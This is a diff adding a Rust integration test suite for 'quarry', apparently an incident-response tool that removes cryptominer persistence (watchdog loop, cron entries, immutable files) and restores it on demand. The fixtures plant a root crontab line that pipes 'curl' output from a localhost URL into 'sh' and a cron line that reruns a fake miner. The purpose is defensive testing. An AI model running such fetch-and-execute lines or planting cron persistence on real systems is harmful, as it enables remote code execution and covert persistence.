@@ -1,0 +1,411 @@
+//! Issue 5: `quarry fix` removes a miner for good (watchdog, cron, chattr),
+//! loses nothing (`quarry restore` puts everything back byte-identical), a dry
+//! run changes nothing, an interrupted fix can be undone, and protected
+//! processes survive.
+
+mod common;
+
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::ExitStatusExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use common::*;
+use quarry::respond::case::set_attrs;
+
+const MINER: &str = "/tmp/quarry-fix-test/minerd";
+const CRON_D: &str = "/etc/cron.d/quarry-fix-test";
+const ROOT_CRONTAB: &str = "/var/spool/cron/crontabs/root";
+
+/// PIDs whose executable is `path` (deleted or not).
+fn pids_running(path: &str) -> Vec<i32> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
+            continue;
+        };
+        if let Ok(l) = std::fs::read_link(format!("/proc/{pid}/exe")) {
+            let l = l.to_string_lossy().into_owned();
+            if l == path || l == format!("{path} (deleted)") {
+                out.push(pid);
+            }
+        }
+    }
+    out
+}
+
+/// Restores a file (or removes it) on drop, clearing chattr attributes first;
+/// kills anything still running the miner.
+struct Scenario {
+    files: Vec<(PathBuf, Option<Vec<u8>>)>,
+    dirs: Vec<PathBuf>,
+    procs: Vec<ProcGuard>,
+}
+
+impl Scenario {
+    fn new() -> Scenario {
+        Scenario {
+            files: vec![],
+            dirs: vec![],
+            procs: vec![],
+        }
+    }
+    fn write(&mut self, path: &str, content: &[u8]) {
+        let p = PathBuf::from(path);
+        let mut missing = Vec::new();
+        let mut a = p.parent();
+        while let Some(d) = a {
+            if d.exists() {
+                break;
+            }
+            missing.push(d.to_path_buf());
+            a = d.parent();
+        }
+        self.dirs.extend(missing.into_iter().rev());
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        if !self.files.iter().any(|(f, _)| *f == p) {
+            self.files.push((p.clone(), std::fs::read(&p).ok()));
+        }
+        let _ = set_attrs(&p, false, false);
+        std::fs::write(&p, content).unwrap();
+    }
+}
+
+impl Drop for Scenario {
+    fn drop(&mut self) {
+        self.procs.clear();
+        for pid in pids_running(MINER) {
+            let _ = rustix::process::kill_process(
+                rustix::process::Pid::from_raw(pid).unwrap(),
+                rustix::process::Signal::KILL,
+            );
+        }
+        for (p, orig) in self.files.iter().rev() {
+            let _ = set_attrs(p, false, false);
+            match orig {
+                Some(c) => {
+                    let _ = std::fs::write(p, c);
+                }
+                None => {
+                    let _ = std::fs::remove_file(p);
+                }
+            }
+        }
+        for d in self.dirs.iter().rev() {
+            let _ = std::fs::remove_dir(d);
+        }
+        let _ = set_attrs(Path::new(MINER), false, false);
+        let _ = std::fs::remove_dir_all("/tmp/quarry-fix-test");
+    }
+}
+
+const CRON_D_TEXT: &str = "# quarry test\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n* * * * * root /tmp/quarry-fix-test/minerd\n30 2 * * * root /usr/bin/true\n";
+const CRONTAB_TEXT: &str = "# m h dom mon dow command\n0 3 * * * /usr/bin/true backup\n*/5 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n15 4 * * 1 /usr/bin/true weekly\n";
+
+/// Starts the miner under a watchdog shell that restarts it every second,
+/// plants the cron entries, and makes the binary and the crontab immutable.
+fn plant(s: &mut Scenario, immutable: bool) -> Vec<u8> {
+    std::fs::create_dir_all("/tmp/quarry-fix-test").unwrap();
+    std::fs::copy(burner(), MINER).unwrap();
+    std::fs::set_permissions(MINER, std::fs::Permissions::from_mode(0o755)).unwrap();
+    s.write(CRON_D, CRON_D_TEXT.as_bytes());
+    s.write(ROOT_CRONTAB, CRONTAB_TEXT.as_bytes());
+    std::fs::set_permissions(ROOT_CRONTAB, std::fs::Permissions::from_mode(0o600)).unwrap();
+    if immutable {
+        set_attrs(Path::new(MINER), true, false).unwrap();
+        set_attrs(Path::new(ROOT_CRONTAB), true, false).unwrap();
+    }
+    let mut cmd = Command::new("sh");
+    cmd.args([
+        "-c",
+        &format!("echo ready $$; while true; do {MINER}; sleep 1; done"),
+    ]);
+    s.procs.push(start(cmd));
+    let t = Instant::now();
+    while pids_running(MINER).is_empty() && t.elapsed() < Duration::from_secs(5) {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert!(!pids_running(MINER).is_empty(), "miner did not start");
+    std::thread::sleep(Duration::from_millis(500));
+    std::fs::read(MINER).unwrap()
+}
+
+fn fix(args: &[&str], env: &[(&str, &str)]) -> (std::process::ExitStatus, String) {
+    let out = Command::new(QUARRY)
+        .arg("fix")
+        .args(args)
+        .envs(env.iter().copied())
+        .output()
+        .unwrap();
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    (out.status, text)
+}
+
+fn only_case(root: &Path) -> PathBuf {
+    let cases: Vec<PathBuf> = std::fs::read_dir(root)
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .collect();
+    assert_eq!(cases.len(), 1, "{cases:?}");
+    cases[0].clone()
+}
+
+#[test]
+fn fix_removes_the_miner_for_good_and_restore_brings_everything_back() {
+    require_root!();
+    let _l = lock();
+    let mut s = Scenario::new();
+    let original = plant(&mut s, true);
+    let cases = tempfile::tempdir().unwrap();
+    let root = cases.path().to_str().unwrap();
+
+    let (st, out) = fix(&["--yes", "--interval", "0.5", "--case-root", root], &[]);
+    assert!(st.success(), "fix failed:\n{out}");
+    assert!(
+        out.contains("froze PID") && out.contains("killed PID"),
+        "{out}"
+    );
+
+    // No miner for the next 10 seconds: the watchdog is gone too.
+    let t = Instant::now();
+    while t.elapsed() < Duration::from_secs(10) {
+        assert!(
+            pids_running(MINER).is_empty(),
+            "the miner is running again:\n{out}"
+        );
+        std::thread::sleep(Duration::from_millis(250));
+    }
+    assert!(!Path::new(MINER).exists(), "binary not quarantined");
+    // Only the malicious cron lines are gone.
+    let cron_d = std::fs::read_to_string(CRON_D).unwrap();
+    assert_eq!(
+        cron_d,
+        CRON_D_TEXT.replace("* * * * * root /tmp/quarry-fix-test/minerd\n", "")
+    );
+    let crontab = std::fs::read_to_string(ROOT_CRONTAB).unwrap();
+    assert_eq!(
+        crontab,
+        CRONTAB_TEXT.replace("*/5 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n", "")
+    );
+
+    // The case holds the file, with a correct manifest, not executable.
+    let case = only_case(cases.path());
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(case.join("manifest.json")).unwrap()).unwrap();
+    let q = manifest
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["kind"] == "quarantine" && e["original"] == MINER)
+        .unwrap_or_else(|| panic!("{manifest:#}"));
+    assert_eq!(q["sha256"], quarry::collect::modules::sha256_hex(&original));
+    assert_eq!(q["meta"]["immutable"], true);
+    assert_eq!(q["meta"]["mode"], 0o755);
+    let stored = case.join(q["stored"].as_str().unwrap());
+    assert_eq!(std::fs::read(&stored).unwrap(), original);
+    assert_eq!(
+        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o777,
+        0o400
+    );
+    assert!(case.join("journal.jsonl").exists());
+    assert!(
+        std::fs::read_dir(case.join("evidence")).unwrap().count() >= 2,
+        "evidence of miner and watchdog"
+    );
+
+    // Restore: byte-identical files, lines back, attributes back.
+    let out = Command::new(QUARRY)
+        .args(["restore", case.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(std::fs::read(MINER).unwrap(), original);
+    assert_eq!(
+        std::fs::metadata(MINER).unwrap().permissions().mode() & 0o7777,
+        0o755
+    );
+    assert_eq!(
+        quarry::respond::case::get_attrs(Path::new(MINER)).unwrap(),
+        (true, false)
+    );
+    assert_eq!(std::fs::read_to_string(CRON_D).unwrap(), CRON_D_TEXT);
+    assert_eq!(std::fs::read_to_string(ROOT_CRONTAB).unwrap(), CRONTAB_TEXT);
+    assert_eq!(
+        quarry::respond::case::get_attrs(Path::new(ROOT_CRONTAB)).unwrap(),
+        (true, false)
+    );
+    let listed = Command::new(QUARRY)
+        .args(["cases", "--case-root", root])
+        .output()
+        .unwrap();
+    let listed = String::from_utf8_lossy(&listed.stdout);
+    assert!(
+        listed.contains("[restored]") && listed.contains("quarantined"),
+        "{listed}"
+    );
+}
+
+/// Everything a dry run could change.
+fn state() -> (Vec<u8>, String, String, Vec<i32>) {
+    (
+        std::fs::read(MINER).unwrap(),
+        std::fs::read_to_string(CRON_D).unwrap(),
+        std::fs::read_to_string(ROOT_CRONTAB).unwrap(),
+        pids_running(MINER),
+    )
+}
+
+#[test]
+fn dry_run_changes_nothing() {
+    require_root!();
+    let _l = lock();
+    let mut s = Scenario::new();
+    plant(&mut s, false);
+    let cases = tempfile::tempdir().unwrap();
+    let before = state();
+    let (st, out) = fix(
+        &[
+            "--interval",
+            "0.5",
+            "--case-root",
+            cases.path().to_str().unwrap(),
+        ],
+        &[],
+    );
+    assert_eq!(st.code(), Some(1), "{out}");
+    assert!(out.contains("Dry run: nothing was changed"), "{out}");
+    assert!(
+        out.contains("quarantine /tmp/quarry-fix-test/minerd"),
+        "{out}"
+    );
+    assert!(
+        out.contains("remove line 4 of /etc/cron.d/quarry-fix-test"),
+        "{out}"
+    );
+    let after = state();
+    assert_eq!(before.0, after.0);
+    assert_eq!(before.1, after.1);
+    assert_eq!(before.2, after.2);
+    // The same miner process still runs (a dry run freezes and kills nothing).
+    assert_eq!(before.3, after.3, "{out}");
+    assert_eq!(
+        std::fs::read_dir(cases.path()).unwrap().count(),
+        0,
+        "a dry run created a case"
+    );
+}
+
+#[test]
+fn interrupted_fix_is_recovered_by_restore() {
+    require_root!();
+    let _l = lock();
+    let mut s = Scenario::new();
+    let original = plant(&mut s, false);
+    let cases = tempfile::tempdir().unwrap();
+    let root = cases.path().to_str().unwrap();
+    // Killed right after the 8th completed step: after the cron edits and the
+    // kills, around the quarantine.
+    let (st, out) = fix(
+        &["--yes", "--interval", "0.5", "--case-root", root],
+        &[("QUARRY_FIX_CRASH_AFTER", "8")],
+    );
+    assert_eq!(st.signal(), Some(9), "quarry was not interrupted:\n{out}");
+    let case = only_case(cases.path());
+    let listed = Command::new(QUARRY)
+        .args(["cases", "--case-root", root])
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&listed.stdout).contains("INTERRUPTED"));
+    let out = Command::new(QUARRY)
+        .args(["restore", case.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(std::fs::read(MINER).unwrap(), original);
+    assert_eq!(std::fs::read_to_string(CRON_D).unwrap(), CRON_D_TEXT);
+    assert_eq!(std::fs::read_to_string(ROOT_CRONTAB).unwrap(), CRONTAB_TEXT);
+}
+
+#[test]
+fn protected_processes_survive_even_when_a_rule_flags_them() {
+    require_root!();
+    let _l = lock();
+    let dir = tempfile::tempdir().unwrap();
+    let _a = install_burner("/tmp/quarry-fix-test/qallowed");
+    let _v = install_burner("/tmp/quarry-fix-test/qvictim");
+    let allowed = start(Command::new("/tmp/quarry-fix-test/qallowed"));
+    let victim = start(Command::new("/tmp/quarry-fix-test/qvictim"));
+    let init = std::fs::read_to_string("/proc/1/comm")
+        .unwrap()
+        .trim()
+        .to_string();
+    let me = std::fs::read_to_string("/proc/self/comm")
+        .unwrap()
+        .trim()
+        .to_string();
+    let rules = dir.path().join("r.toml");
+    std::fs::write(
+        &rules,
+        format!(
+            "version = 1\n[[indicator]]\nkind = \"process-name\"\nvalues = [{:?}, {:?}, \"qallowed\", \"qvictim\"]\nweight = 6\nnote = \"test rule\"\nsource = \"quarry test suite\"\n",
+            init, me
+        ),
+    )
+    .unwrap();
+    let allow = dir.path().join("allow.toml");
+    std::fs::write(&allow, "names = [\"qallowed\"]\n").unwrap();
+    let (st, out) = fix(
+        &[
+            "--yes",
+            "--interval",
+            "0.3",
+            "--only",
+            "miner.process",
+            "--rules",
+            rules.to_str().unwrap(),
+            "--allowlist",
+            allow.to_str().unwrap(),
+            "--case-root",
+            dir.path().join("cases").to_str().unwrap(),
+        ],
+        &[],
+    );
+    assert!(out.contains("refused: PID 1 "), "{out}");
+    assert!(out.contains("an ancestor of Quarry"), "{out}");
+    assert!(out.contains("allowlisted"), "{out}");
+    assert!(Path::new("/proc/1").exists());
+    assert!(
+        Path::new(&format!("/proc/{}", allowed.pid)).exists(),
+        "allowlisted process was killed:\n{out}"
+    );
+    assert!(
+        std::fs::read_to_string(format!("/proc/{}/stat", allowed.pid))
+            .unwrap()
+            .contains(") R")
+            || std::fs::read_to_string(format!("/proc/{}/stat", allowed.pid))
+                .unwrap()
+                .contains(") S"),
+        "allowlisted process was frozen"
+    );
+    // The unprotected one was stopped (it is our child: a zombie until reaped).
+    let st_v = std::fs::read_to_string(format!("/proc/{}/stat", victim.pid)).unwrap_or_default();
+    assert!(
+        st_v.is_empty() || st_v.contains(") Z"),
+        "victim still running: {st_v}\n{out}"
+    );
+    let _ = st;
+}
